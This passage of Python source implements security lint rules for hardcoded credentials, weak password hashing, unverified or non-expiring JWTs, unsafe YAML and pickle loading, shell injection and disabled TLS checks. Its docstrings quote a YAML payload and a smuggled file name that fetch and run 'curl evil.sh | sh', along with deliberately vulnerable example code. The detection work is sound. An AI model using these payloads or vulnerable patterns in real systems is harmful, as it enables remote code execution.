        if name is None or not literal or not secret_name(name) or ctx.facts.is_example:
            continue
        line = getattr(where, "lineno", 0)
        if line in ctx.module_state.setdefault("SEC002:lines", set()):
            continue
        confidence = _secret_value(literal, name)
        if confidence is None:
            continue
        if confidence is Confidence.HIGH and _dev_settings_file(ctx.path):
            confidence = Confidence.LOW
        what = "a placeholder" if confidence is Confidence.LOW else "a literal"
        verb = "compared with" if isinstance(where, ast.Compare) else "set to"
        ctx.report(
            where,
            f"`{name}` is {verb} {what} in the source: anyone with the code (or an image "
            "built from it) has this credential, and it cannot be rotated without a deploy. "
            "Read it from the environment or a secret manager",
            confidence=confidence,
            secret=literal,
        )


_URL_KEY = "SEC002:urls"


def _collect_url_credentials(node: ast.Constant, value: str, ctx: PythonContext) -> None:
    found = url_credentials(value)
    if found is None or any(_contains(span, node) for span in ctx.rule_state(list)):
        return  # no literal password, or an example payload for API docs
    ctx.module_state.setdefault(_URL_KEY, []).append((node, found))


def _report_url_credentials(ctx: PythonContext) -> None:
    """Connection URLs with a literal password, judged at module end (the module's kind is
    known then)."""
    found: list[tuple[ast.Constant, UrlCredentials]] = ctx.module_state.get(_URL_KEY, [])
    if not found or ctx.facts.is_example:
        return
    parents = ctx.parents()
    dev_file = _dev_settings_file(ctx.path)
    local_setup = dev_file or is_script(ctx) or is_framework_source(ctx)
    lines: set[int] = ctx.module_state.setdefault("SEC002:lines", set())
    for node, credentials in found:
        where: ast.AST = node
        host: str | None = credentials.host
        parent = parents.get(id(node))
        if isinstance(parent, ast.JoinedStr):  # the fixed start of an f-string
            where, parent = parent, parents.get(id(parent))
            if not host:
                host = None  # filled in at run time
        if parent is None or isinstance(parent, ast.Expr):
            continue  # a docstring or a bare string
        loopback = host is not None and loopback_host(host)
        if loopback and local_setup:
            continue  # a developer's local database, in a script or dev settings
        line = getattr(where, "lineno", 0)
        if line in lines:
            continue
        lines.add(line)
        whose = f" of `{credentials.user}`" if credentials.user else ""
        on = f" for {host}" if host else " for a local socket" if host is not None else ""
        ctx.report(
            where,
            f"this connection URL embeds the password{whose}{on}: anyone with the code (or an "
            "image built from it) can log in, and the password cannot be rotated without a "
            "deploy. Read the URL (or at least the password) from the environment or a secret "
            "manager",
            confidence=Confidence.LOW if dev_file else Confidence.MEDIUM if loopback else None,
            secret=credentials.password,
        )


def _scan_credential_formats(ctx: PythonContext) -> None:
    source = ctx.source
    lines: set[int] = ctx.module_state.setdefault("SEC002:lines", set())
    for markers, pattern, kind in CREDENTIAL_FORMATS:
        if any(marker in source for marker in markers):
            _report_credentials(ctx, pattern, kind, lines)


def _report_credentials(
    ctx: PythonContext, pattern: re.Pattern[str], kind: str, lines: set[int]
) -> None:
    source = ctx.source
    for match in pattern.finditer(source):
        token = match.group(0)
        body = token.split("_")[-1] if kind != "pem" else token
        if "EXAMPLE" in token.upper() or len(set(body[-16:])) < 6:
            continue
        line = source.count("\n", 0, match.start()) + 1
        if line in lines:
            continue
        lines.add(line)
        text = ctx.lines[line - 1] if line <= len(ctx.lines) else ""
        column = match.start() - (source.rfind("\n", 0, match.start()) + 1)
        byte_column = len(text[:column].encode("utf-8"))
        width = len(text[column : column + len(token)].encode("utf-8"))
        where = ast.Constant(value=token)
        where.lineno, where.col_offset = line, byte_column
        where.end_lineno, where.end_col_offset = line, byte_column + width
        ctx.report(
            where,
            f"{CREDENTIAL_FORMAT_NAMES[kind]} is committed in the source: treat it as leaked -- "
            "revoke and rotate it, then load the new one from the environment or a secret manager",
            secret=token,
        )


# -- SEC003 ------------------------------------------------------------------------------------

_HASH_CONSTRUCTORS = (
    "md5",
    "sha1",
    "sha224",
    "sha256",
    "sha384",
    "sha512",
    "sha3_256",
    "sha3_512",
    "blake2b",
    "blake2s",
    "new",
)
_PASSWORD_WORDS = frozenset({"password", "passwd", "pwd", "passphrase", "pw", "pass"})
_NOT_PASSWORD_WORDS = frozenset(
    {"token", "reset", "nonce", "otp", "code", "hash", "hashed", "digest", "key", "link", "url"}
    | {"email", "username", "user", "id", "policy", "length", "field", "file"}
)
_BREACH_CHECK_WORDS = frozenset({"pwned", "breach", "breached", "leaked", "compromised", "hibp"})
_PASSWORD_VERBS = frozenset(
    {"hash", "make", "set", "encrypt", "encode", "check", "verify", "validate", "digest"}
    | {"store", "create", "compare", "hashed", "update", "save"}
)


def _mentions_password(expr: ast.AST) -> bool:
    """The expression reads a password (``password``, ``user.passwd``, ``data["password"]``)."""
    for node in ast.walk(expr):
        if isinstance(node, ast.Name):
            name = node.id
        elif isinstance(node, ast.Attribute):
            name = node.attr
        elif isinstance(node, ast.Subscript):
            name = constant_str(node.slice) or ""
        else:
            continue
        words = set(name_words(name))
        if words & _PASSWORD_WORDS and not words & _NOT_PASSWORD_WORDS:
            if "pass" in words and len(words) == 1:
                continue
            return True
    return False


def _protocol_digest(expr: ast.AST) -> bool:
    for node in ast.walk(expr):
        name = node.id if isinstance(node, ast.Name) else getattr(node, "attr", None)
        if isinstance(name, str) and set(name_words(name)) & _PROTOCOL_WORDS:
            return True
    return False


_PROTOCOL_WORDS = frozenset({"nonce", "cnonce", "realm", "challenge", "iso", "created"})


def _password_function(name: str) -> bool:
    words = set(name_words(name))
    return bool(words & (_PASSWORD_WORDS - {"pass"})) and bool(words & _PASSWORD_VERBS)


def _unrelated_to_password(expr: ast.AST) -> bool:
    for node in ast.walk(expr):
        name = node.id if isinstance(node, ast.Name) else getattr(node, "attr", None)
        if isinstance(name, str) and set(name_words(name)) & _UNRELATED_WORDS:
            return True
    return False


# Hashed material that is not the password: tokens, or random bytes for a salt
# (``hashlib.sha256(os.urandom(60))`` next to ``pbkdf2_hmac`` in ``hash_password``).
_UNRELATED_WORDS = frozenset(
    {"token", "nonce", "otp", "code", "key", "urandom", "salt", "random", "uuid", "uuid4"}
    | {"token_bytes", "token_hex", "time", "now", "email", "username"}
)


@python_rule(
    code="SEC003",
    name="weak-password-hash",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="Password hashed with a fast general-purpose hash (md5/sha1/sha256) instead of a KDF",
    calls=(
        *(f"hashlib.{name}" for name in _HASH_CONSTRUCTORS),
        *(f"hashlib.{name}.update" for name in _HASH_CONSTRUCTORS),
    ),
    cwe=916,
    fix="Use a password hashing function: argon2-cffi, bcrypt, or hashlib.scrypt/pbkdf2_hmac.",
)
def weak_password_hash(node: ast.Call, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `hashlib.md5/sha1/sha256/sha512/blake2b/new(...)` (and `.update()` on such a hash)
    applied to a password -- the hashed expression reads a `password`/`passwd`/`pwd` value, or
    the call sits in a function such as `hash_password`/`verify_password`. Hashing checksums,
    cache keys, ETags or random tokens is not reported, nor is `usedforsecurity=False`.

    ## Why it breaks production
    General-purpose hashes are built to be fast: a single GPU tries billions of SHA-256 or MD5
    guesses per second, so when the user table leaks (SQL injection, a backup, a replica
    snapshot) most passwords are recovered within hours -- and reused on your users' email and
    bank accounts. Unsalted hashes also fall to precomputed tables instantly.

    ## Example
    ```python
    def hash_password(password: str) -> str:
        return hashlib.sha256(password.encode()).hexdigest()
    ```

    ## Use instead
    ```python
    from argon2 import PasswordHasher

    _hasher = PasswordHasher()

    def hash_password(password: str) -> str:
        return _hasher.hash(password)
    ```
    (or `bcrypt.hashpw`, Django's `make_password`, `passlib`'s `CryptContext`).
    """
    if ctx.facts.is_test:
        return
    name = ctx.call_name or ""
    if is_false(keyword_value(node, "usedforsecurity")):
        return
    is_update = name.endswith(".update")
    position = 1 if name == "hashlib.new" else 0
    data = argument(node, 0 if is_update else position, "string" if not is_update else None)
    data = data or keyword_value(node, "data")
    if data is None or is_literal(data):
        return
    scope = ctx.function
    if (
        scope is not None
        and scope.class_info is not None
        and any(base.rsplit(".", 1)[-1] == "BasePasswordHasher" for base in scope.class_info.bases)
    ):
        return  # a pluggable (legacy) Django hasher, chosen by PASSWORD_HASHERS
    function = scope.name if scope is not None else ""
    if set(name_words(function)) & _BREACH_CHECK_WORDS:
        return  # k-anonymity lookups (Have I Been Pwned) send a SHA-1 prefix by design
    if not _mentions_password(data) and (
        not _password_function(function) or _unrelated_to_password(data)
    ):
        return
    if _protocol_digest(data):
        return  # HTTP Digest / WSSE: the protocol fixes the hash of password + nonce/realm
    algorithm = name.split(".")[1] if name.count(".") >= 1 else "a fast hash"
    if algorithm == "new":
        algorithm = constant_str(argument(node, 0, "name")) or "hashlib.new"
    ctx.report(
        node,
        f"password hashed with {algorithm}: a fast hash lets a leaked user table be "
        "brute-forced at billions of guesses per second. Use a password KDF (argon2-cffi, "
        "bcrypt, hashlib.scrypt, or pbkdf2_hmac with >= 600k iterations)",
    )


# -- SEC004 / SEC005 ---------------------------------------------------------------------------

_JWT_DECODE = (
    "jwt.decode",
    "jwt.api_jwt.decode",
    "jwt.decode_complete",
    "jwt.api_jwt.decode_complete",
    "jwt.PyJWT.decode",
    "jose.jwt.decode",
)
_JWT_UNVERIFIED = ("jose.jwt.get_unverified_claims", "jwt.get_unverified_claims")
_AUTH_FUNCTION_WORDS = frozenset(
    {"auth", "authenticate", "authorize", "verify", "validate", "permission", "require"}
    | {"login", "identity", "principal", "current", "session", "guard", "check"}
)


def _dict_value(expr: ast.expr | None, ctx: PythonContext) -> ast.Dict | None:
    if isinstance(expr, ast.Name):
        expr = ctx.value_of(expr.id)
    return expr if isinstance(expr, ast.Dict) else None


def _dict_get(mapping: ast.Dict, key: str) -> ast.expr | None:
    for k, v in zip(mapping.keys, mapping.values, strict=True):
        if constant_str(k) == key:
            return v
    return None


def _imports_jwt(ctx: PythonContext) -> bool:
    return _imports(ctx, ("jwt", "jose"))


def _imports(ctx: PythonContext, packages: tuple[str, ...]) -> bool:
    """The module imports one of ``packages`` (at the top or in a function seen so far)."""
    if ctx.facts.imports_any(packages):
        return True
    # Module-level bindings come from the prepass and do not change during the walk.
    key = "security:bound:" + packages[0]
    bound: bool | None = ctx.module_state.get(key)
    if bound is None:
        bound = ctx.module_state[key] = any(
            (name or "").split(".")[0] in packages for name in ctx.facts.bindings.values()
        )
    return bound


def _auth_context(ctx: PythonContext) -> bool:
    if ctx.route is not None:
        return True
    scope = ctx.function
    return scope is not None and bool(set(name_words(scope.name)) & _AUTH_FUNCTION_WORDS)


@python_rule(
    code="SEC004",
    name="jwt-decode-without-verification",
    category=Category.SECURITY,
    severity=Severity.CRITICAL,
    summary="JWT decoded without verifying its signature (or with the 'none' algorithm)",
    calls=(*_JWT_DECODE, *_JWT_UNVERIFIED),
    nodes=(FunctionEnd,),
    cwe=347,
    fix='jwt.decode(token, key, algorithms=["HS256"]) -- keep signature and expiry checks on.',
)
def jwt_decode_without_verification(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags PyJWT and python-jose `jwt.decode(...)` calls that turn verification off:
    `options={"verify_signature": False}`, `verify=False` (PyJWT 1.x), `algorithms=["none"]`,
    and `get_unverified_claims()` in a function that never verifies the token. Turning off only
    the expiry check (`options={"verify_exp": False}`) is reported with its own message.

    ## Why it breaks production
    Without the signature check a JWT is just base64 JSON that anyone can write: an attacker
    sets `"sub": "admin"` or `"role": "superuser"` and is that user. With the expiry check off,
    a token stolen once (from a log, a browser extension, a proxy) works forever.

    ## Example
    ```python
    def current_user(token: str = Depends(oauth2_scheme)):
        claims = jwt.decode(token, options={"verify_signature": False})
        return users.get(claims["sub"])
    ```

    ## Use instead
    ```python
    def current_user(token: str = Depends(oauth2_scheme)):
        claims = jwt.decode(token, settings.JWT_KEY, algorithms=["HS256"])
        return users.get(claims["sub"])
    ```
    """
    if ctx.facts.is_test or not _imports_jwt(ctx):
        return
    state: dict[str, Any] = ctx.rule_state(lambda: {"unverified": [], "verified": False})
    if not isinstance(node, ast.Call):
        if not state["verified"]:
            for call in state["unverified"]:
                ctx.report(
                    call,
                    "claims read with get_unverified_claims() and the token is never verified "
                    "in this function: anyone can forge them. Verify with jwt.decode(token, "
                    "key, algorithms=[...]) before trusting any claim",
                    confidence=Confidence.MEDIUM,
                )
        return
    name = ctx.call_name or ""
    if name in _JWT_UNVERIFIED:
        if ctx.function is None:
            return
        state["unverified"].append(node)
        return
    confidence = Confidence.HIGH if _auth_context(ctx) else Confidence.MEDIUM
    options = _dict_value(keyword_value(node, "options"), ctx)
    algorithms = keyword_value(node, "algorithms")
    if isinstance(algorithms, ast.Name):
        algorithms = ctx.value_of(algorithms.id) or algorithms
    none_algorithm = isinstance(algorithms, ast.List | ast.Tuple | ast.Set) and any(
        (constant_str(e) or "").lower() == "none" for e in algorithms.elts
    )
    if (options is not None and is_false(_dict_get(options, "verify_signature"))) or is_false(
        keyword_value(node, "verify")
    ):
        ctx.report(
            node,
            f"{name}() with signature verification turned off: anyone can forge this token's "
            "claims (sub, role, tenant). Verify it: jwt.decode(token, key, algorithms=[...])",
            confidence=confidence,
        )
        return
    if none_algorithm:
        ctx.report(
            node,
            f'{name}() accepts the "none" algorithm: unsigned tokens pass as valid. List only '
            'the algorithm you sign with, e.g. algorithms=["HS256"]',
            confidence=confidence,
        )
        return
    if options is not None and is_false(_dict_get(options, "verify_exp")):
        ctx.report(
            node,
            f"{name}() with verify_exp=False: expired tokens stay valid forever, so a token "
            "stolen once never stops working. Keep the expiry check on (use leeway= for skew)",
            severity=Severity.HIGH,
            confidence=confidence,
        )
        return
    state["verified"] = True


_JWT_ENCODE = ("jwt.encode", "jwt.api_jwt.encode", "jwt.PyJWT.encode", "jose.jwt.encode")
_IDENTITY_CLAIMS = frozenset({"sub", "user_id", "uid", "user", "email", "username", "role"})


def _claims(payload: ast.expr | None, ctx: PythonContext) -> tuple[set[str], str | None] | None:
    """The literal claim names of a payload (and the local name holding it), or None when the
    payload is not a literal we can see whole."""
    local: str | None = None
    if isinstance(payload, ast.Name):
        local = payload.id
        if not _is_local(local, ctx):
            return None
        payload = ctx.value_of(payload.id)
    if isinstance(payload, ast.Dict):
        keys: set[str] = set()
        for key in payload.keys:
            text = constant_str(key)
            if text is None:
                return None  # ``**claims`` or a computed key
            keys.add(text)
        return keys, local
    if isinstance(payload, ast.Call) and dotted(payload.func) == "dict" and not payload.args:
        if has_star_kwargs(payload):
            return None
        return {k.arg for k in payload.keywords if k.arg is not None}, local
    return None


def _is_local(name: str, ctx: PythonContext) -> bool:
    scope = ctx.function
    return scope is not None and name in scope.values


@python_rule(
    code="SEC005",
    name="jwt-without-expiry",
    category=Category.SECURITY,
    severity=Severity.MEDIUM,
    summary='JWT issued without an "exp" claim: the token is valid forever',
    calls=(*_JWT_ENCODE, "*.update", "*.setdefault"),
    nodes=(ast.Assign, FunctionEnd),
    cwe=613,
    fix='Add an expiry: payload["exp"] = datetime.now(timezone.utc) + timedelta(minutes=15).',
)
def jwt_without_expiry(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `jwt.encode(payload, ...)` (PyJWT, python-jose) when the payload is a dict literal --
    inline or in a local variable -- without an `"exp"` claim, and the function never adds one
    (`payload["exp"] = ...`, `payload.update(exp=...)`) before or after.

    ## Why it breaks production
    PyJWT and python-jose only reject expired tokens when there is an `exp` claim. Without it,
    an access token copied once -- from a log line, a proxy, a shared laptop, a leaked HAR file
    -- authenticates forever, and there is no way to cut it off short of rotating the signing
    key for every user.

    ## Example
    ```python
    def create_access_token(user: User) -> str:
        return jwt.encode({"sub": str(user.id), "role": user.role}, SECRET, algorithm="HS256")
    ```

    ## Use instead
    ```python
    def create_access_token(user: User) -> str:
        expires = datetime.now(timezone.utc) + timedelta(minutes=15)
        claims = {"sub": str(user.id), "role": user.role, "exp": expires}
        return jwt.encode(claims, SECRET, algorithm="HS256")
    ```
    """
    if isinstance(node, ast.Assign):
        for target in node.targets:
            if target.__class__ is ast.Subscript and constant_str(target.slice) == "exp":
                name = dotted(target.value)
                if name is not None and _imports_jwt(ctx):
                    ctx.rule_state(_jwt_state)["exp"].add(name)
        return
    if ctx.facts.is_test or not _imports_jwt(ctx):
        return
    state: dict[str, Any] = ctx.rule_state(_jwt_state)
    if not isinstance(node, ast.Call):  # FunctionEnd
        for call, local, keys in state["pending"]:
            if local not in state["exp"]:
                _report_no_exp(call, keys, ctx)
        return
    func = node.func
    name = ctx.call_name or ""
    if name not in _JWT_ENCODE:
        if isinstance(func, ast.Attribute) and func.attr in {"update", "setdefault"}:
            owner = dotted(func.value)
            if owner is not None and _sets_exp(node, func.attr):
                state["exp"].add(owner)
        return
    payload = argument(node, 0, "payload") or keyword_value(node, "claims")
    claims = _claims(payload, ctx)
    if claims is None:
        return
    keys, local = claims
    if "exp" in keys:
        return
    if local is None or ctx.function is None:
        _report_no_exp(node, keys, ctx)
    else:
        state["pending"].append((node, local, keys))


def _jwt_state() -> dict[str, Any]:
    return {"pending": [], "exp": set()}


def _sets_exp(call: ast.Call, method: str) -> bool:
    if method == "setdefault":
        return bool(call.args) and constant_str(call.args[0]) == "exp"
    if any(k.arg == "exp" for k in call.keywords):
        return True
    return any(
        isinstance(arg, ast.Dict) and any(constant_str(k) == "exp" for k in arg.keys)
        for arg in call.args
    )


def _report_no_exp(call: ast.Call, keys: set[str], ctx: PythonContext) -> None:
    identity = bool(keys & _IDENTITY_CLAIMS)
    ctx.report(
        call,
        'JWT issued without an "exp" claim: it never expires, so a leaked token works '
        'forever. Add "exp" (e.g. now + 15 minutes) and refresh tokens when needed',
        confidence=Confidence.HIGH if identity else Confidence.MEDIUM,
    )


# -- SEC006 ------------------------------------------------------------------------------------

_SAFE_LOADERS = ("SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader")
_UNSAFE_LOADERS = ("Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader")
_FULL_LOADERS = ("FullLoader", "CFullLoader")


def _local_file(stream: ast.expr | None, ctx: PythonContext) -> bool:
    """``open("config.yaml")``, a ``with open(...) as f`` handle, or a path constant."""
    if stream is None:
        return False
    if (
        isinstance(stream, ast.Call)
        and isinstance(stream.func, ast.Attribute)
        and stream.func.attr == "read"
    ):
        return _local_file(stream.func.value, ctx)
    name = ctx.qualname(stream) if isinstance(stream, ast.Name | ast.Call) else None
    return name in {"builtins.open", "io.open"} or (name or "").startswith("pathlib.Path")


@python_rule(
    code="SEC006",
    name="yaml-unsafe-load",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="YAML parsed with a loader that can construct arbitrary Python objects",
    calls=(
        "yaml.load",
        "yaml.load_all",
        "yaml.unsafe_load",
        "yaml.unsafe_load_all",
        "yaml.full_load",
        "yaml.full_load_all",
        "ruamel.yaml.YAML",
    ),
    cwe=502,
    fix="Use yaml.safe_load(stream) (or Loader=yaml.SafeLoader / yaml.CSafeLoader).",
)
def yaml_unsafe_load(node: ast.Call, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `yaml.load`/`yaml.load_all` without a safe `Loader` (`SafeLoader`, `CSafeLoader`,
    `BaseLoader`), with `Loader=yaml.Loader/UnsafeLoader/CLoader`, `yaml.unsafe_load`, and --
    with medium severity -- `FullLoader`/`yaml.full_load`. Also ruamel's `YAML(typ="unsafe")`.

    ## Why it breaks production
    The unsafe loaders build any Python object a document names: a YAML payload with
    `!!python/object/apply:os.system ["curl evil.sh | sh"]` runs a command in your service.
    Any YAML that can come from outside -- an upload, a webhook, a config fetched over the
    network, a file in a shared bucket -- becomes remote code execution. (`yaml.load` without
    a Loader is also a `TypeError` on PyYAML 6.)

    ## Example
    ```python
    @app.post("/pipelines")
    async def import_pipeline(file: UploadFile):
        spec = yaml.load(await file.read(), Loader=yaml.Loader)
    ```

    ## Use instead
    ```python
    @app.post("/pipelines")
    async def import_pipeline(file: UploadFile):
        spec = yaml.safe_load(await file.read())
    ```
    """
    if ctx.facts.is_test:
        return
    name = ctx.call_name or ""
    if name == "ruamel.yaml.YAML":
        if constant_str(argument(node, None, "typ")) == "unsafe":
            ctx.report(
                node,
                'ruamel YAML(typ="unsafe") constructs arbitrary Python objects from the '
                'document: use YAML(typ="safe")',
            )
        return
    stream = argument(node, 0, "stream")
    confidence = Confidence.MEDIUM if _local_file(stream, ctx) else Confidence.HIGH
    function = name.rsplit(".", 1)[-1]
    if function.startswith("unsafe_load"):
        ctx.report(
            node,
            f"yaml.{function}() constructs arbitrary Python objects: a crafted document runs "
            "code in this process. Use yaml.safe_load()",
            confidence=confidence,
        )
        return
    if function.startswith("full_load"):
        ctx.report(
            node,
            f"yaml.{function}() uses FullLoader, which has allowed code execution in several "
            "PyYAML releases: use yaml.safe_load()",
            severity=Severity.MEDIUM,
            confidence=confidence,
        )
        return
    if has_star_kwargs(node):
        return
    loader = argument(node, 1, "Loader")
    if loader is None:
        ctx.report(
            node,
            f"yaml.{function}() without a Loader: PyYAML 5 falls back to an unsafe loader and "
            "PyYAML 6 raises TypeError. Use yaml.safe_load() (or Loader=yaml.SafeLoader)",
            confidence=confidence,
        )
        return
    loader_name = (ctx.qualname(loader) or "").rsplit(".", 1)[-1]
    if loader_name in _UNSAFE_LOADERS:
        ctx.report(
            node,
            f"yaml.{function}() with Loader={loader_name} constructs arbitrary Python objects: "
            "a crafted document runs code in this process. Use yaml.safe_load()",
            confidence=confidence,
        )
    elif loader_name in _FULL_LOADERS:
        ctx.report(
            node,
            f"yaml.{function}() with {loader_name}, which has allowed code execution in "
            "several PyYAML releases: use yaml.safe_load()",
            severity=Severity.MEDIUM,
            confidence=confidence,
        )


# -- SEC007 ------------------------------------------------------------------------------------

_DESERIALIZERS = {
    "pickle.loads": "pickle",
    "pickle.load": "pickle",
    "pickle.Unpickler": "pickle",
    "_pickle.loads": "pickle",
    "_pickle.load": "pickle",
    "cPickle.loads": "pickle",
    "cPickle.load": "pickle",
    "marshal.loads": "marshal",
    "marshal.load": "marshal",
    "dill.loads": "dill",
    "dill.load": "dill",
    "cloudpickle.loads": "cloudpickle",
    "cloudpickle.load": "cloudpickle",
    "jsonpickle.decode": "jsonpickle",
    "joblib.load": "joblib",
    "pandas.read_pickle": "pandas.read_pickle",
    "numpy.load": "numpy.load(allow_pickle=True)",
}


@python_rule(
    code="SEC007",
    name="unsafe-deserialization",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="pickle/marshal/dill/jsonpickle used on data from outside the process",
    calls=tuple(_DESERIALIZERS),
    cwe=502,
    fix="Exchange data as JSON (or msgpack/protobuf) and validate it; never unpickle input.",
)
def unsafe_deserialization(node: ast.Call, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `pickle.loads/load`, `marshal`, `dill`, `cloudpickle`, `jsonpickle.decode`,
    `joblib.load`, `pandas.read_pickle` and `numpy.load(allow_pickle=True)` when the data comes
    from outside the process: request bodies, uploaded files, handler parameters, HTTP
    responses, sockets, message payloads or cache/Redis reads -- or when a request handler
    unpickles anything but a local file. Unpickling files the program wrote itself is not
    reported.

    ## Why it breaks production
    Unpickling runs code chosen by whoever wrote the bytes (`__reduce__` can return
    `os.system`). A request body, a webhook, a queue message or a cache entry that an attacker
    can influence -- a shared Redis without auth is enough -- becomes remote code execution in
    the service, with its credentials and network access.

    ## Example
    ```python
    @app.post("/jobs")
    def submit_job():
        job = pickle.loads(request.get_data())
        queue.enqueue(job)
    ```

    ## Use instead
    ```python
    @app.post("/jobs")
    def submit_job():
        job = JobSpec.model_validate_json(request.get_data())
        queue.enqueue(job.model_dump())
    ```
    If the bytes must be trusted objects, sign them (`hmac`) and verify before loading.
    """
    if ctx.facts.is_test:
        return
    name = ctx.call_name or ""
    kind = _DESERIALIZERS.get(name, name)
    if name == "numpy.load" and not is_true(keyword_value(node, "allow_pickle")):
        return
    data = argument(node, 0, None)
    if data is None:
        data = next((k.value for k in node.keywords if k.arg in {"data", "file", "s", "fp"}), None)
    if data is None or is_literal(data):
        return
    source = external_source(data, ctx)
    if source is not None:
        confidence = Confidence.MEDIUM if source.startswith(("a cache", "a message")) else None
        ctx.report(
            node,
            f"{kind} deserializes {source}: whoever controls those bytes runs code in this "
            "process. Exchange JSON (or another data-only format) and validate it",
            confidence=confidence or Confidence.HIGH,
        )
        return
    if ctx.route is not None and not _local_file(data, ctx) and not _is_constant_path(data, ctx):
        ctx.report(
            node,
            f"{kind} deserializes data inside a request handler: if any of it comes from the "
            "client or shared storage, that is remote code execution. Use JSON and validate it",
            confidence=Confidence.MEDIUM,
        )


def _is_constant_path(expr: ast.expr, ctx: PythonContext) -> bool:
    if isinstance(expr, ast.Name):
        value = ctx.value_of(expr.id)
        if value is None:
            return expr.id.isupper()
        expr = value
    if isinstance(expr, ast.Call):
        return all(is_literal(a) or _is_constant_path(a, ctx) for a in expr.args)
    if isinstance(expr, ast.Attribute):
        return expr.attr.isupper()
    return is_literal(expr) or isinstance(expr, ast.JoinedStr | ast.BinOp)


# -- SEC008 ------------------------------------------------------------------------------------

_SHELL_ALWAYS = (
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "asyncio.subprocess.create_subprocess_shell",
)
_SHELL_OPTIONAL = (
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
)
_SHELL_SANITIZERS = frozenset(
    {"shlex.quote", "shlex.join", "pipes.quote", "quote", "escapeshellarg"}
)


@python_rule(
    code="SEC008",
    name="shell-command-injection",
    category=Category.SECURITY,
    severity=Severity.CRITICAL,
    summary="Shell command built from request data (os.system, subprocess with shell=True)",
    calls=(*_SHELL_ALWAYS, *_SHELL_OPTIONAL),
    nodes=(ModuleEnd,),
    cwe=78,
    fix='Pass an argument list, no shell: subprocess.run(["convert", path, out], check=True).',
)
def shell_command_injection(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`
    and `subprocess.run/call/check_output/Popen(..., shell=True)` when the command line
    carries data the client controls -- request data or handler parameters, followed through
    local variables, f-strings, `%`, `.format()`, `+` and helper functions of the module
    (including a helper that runs the command with its parameter when a handler passes
    request data to it). Values passed through `shlex.quote`, numbers and allow-listed values
    are fine; constant commands, commands built from configuration, `sys.argv` or environment
    variables, and argument lists without `shell=True` are not reported.

    ## Why it breaks production
    The shell interprets `;`, `|`, `$(...)` and backticks inside the interpolated value: a file
    name such as `x; curl evil.sh | sh` runs a second command with the service's permissions
    and credentials. Even harmless input breaks it -- a space or a quote in a file name makes
    the command fail or act on the wrong file.

    ## Example
    ```python
    @app.post("/thumbnails/{filename}")
    def make_thumbnail(filename: str):
        os.system(f"convert uploads/{filename} -resize 200x200 thumbs/{filename}")
    ```

    ## Use instead
    ```python
    @app.post("/thumbnails/{filename}")
    def make_thumbnail(filename: str):
        subprocess.run(
            ["convert", f"uploads/{filename}", "-resize", "200x200", f"thumbs/{filename}"],
            check=True,
            timeout=30,
        )
    ```
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test or not isinstance(node, ast.Call):
        return
    name = ctx.call_name or ""
    if name in _SHELL_OPTIONAL:
        shell = keyword_value(node, "shell")
        if isinstance(shell, ast.Name):
            shell = ctx.value_of(shell.id) or shell
        if not is_true(shell):
            return
        command = argument(node, 0, "args")
    else:
        command = argument(node, 0, "cmd") or argument(node, None, "command")
    if command is None or isinstance(command, ast.Starred):
        return
    if isinstance(command, ast.Name):
        bound = ctx.value_of(command.id)
        if isinstance(bound, ast.List | ast.Tuple):
            command = bound
    if isinstance(command, ast.List | ast.Tuple):
        if not command.elts:
            return
        command = command.elts[0]  # with a shell, only the first item is the command line
    pieces = _pieces(command, ctx, {})
    values = [p for p in pieces if not isinstance(p, str) and not _safe_value(p, ctx, frozenset())]
    callee = name.rsplit(".", 1)[-1] if name in _SHELL_OPTIONAL else name
    shell_note = " with shell=True" if name in _SHELL_OPTIONAL else ""

    def report(source: str) -> None:
        ctx.report(
            node,
            f"{callee}(){shell_note} runs a shell command built from {source}: shell "
            "metacharacters in it (; | $( ) `) run arbitrary commands with the service's "
            "permissions. Pass an argument list without shell=True (or shlex.quote() each "
            "value)",
        )

    sink_flow(values, ctx, report, sanitizers=_SHELL_SANITIZERS, web_only=True)


# -- SEC009 ------------------------------------------------------------------------------------

_HTTP_METHODS = ("get", "post", "put", "patch", "delete", "head", "options", "request", "send")
_TLS_CALLS = (
    *(f"*.{method}" for method in (*_HTTP_METHODS, "stream", "ws_connect")),
    "requests.*",
    "httpx.*",
    "aiohttp.*",
    "urllib3.*",
    "ssl.wrap_socket",
    "requests.packages.urllib3.disable_warnings",
)
_OPTION_PARAMETER_WORDS = frozenset(
    {"verify", "insecure", "cert", "certs", "ssl", "tls", "hostname", "reqs", "unverified"}
)


def _false_value(expr: ast.expr | None, ctx: PythonContext) -> bool:
    if isinstance(expr, ast.Name):
        expr = ctx.value_of(expr.id)
    return is_false(expr)


def _cert_none(expr: ast.expr | None, ctx: PythonContext) -> bool:
    if expr is None:
        return False
    if constant_str(expr) == "CERT_NONE":
        return True
    return (
        (ctx.qualname(expr) or "").endswith("CERT_NONE")
        if isinstance(expr, ast.Attribute | ast.Name)
        else False
    )


def _verification_is_an_option(ctx: PythonContext) -> bool:
    """The enclosing function takes a verification setting (``def make_context(verify)``):
    turning checks off there implements the caller's choice."""
    scope = ctx.function
    if scope is None:
        return False
    return any(set(name_words(arg.arg)) & _OPTION_PARAMETER_WORDS for arg in scope.params)


@python_rule(
    code="SEC009",
    name="tls-verification-disabled",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="TLS certificate verification turned off (verify=False, CERT_NONE, unverified context)",
    calls=_TLS_CALLS,
    nodes=(ast.Assign,),
    attributes=("ssl._create_unverified_context",),
    cwe=295,
    fix="Keep verification on; for a private CA pass verify='/path/to/ca-bundle.pem'.",
)
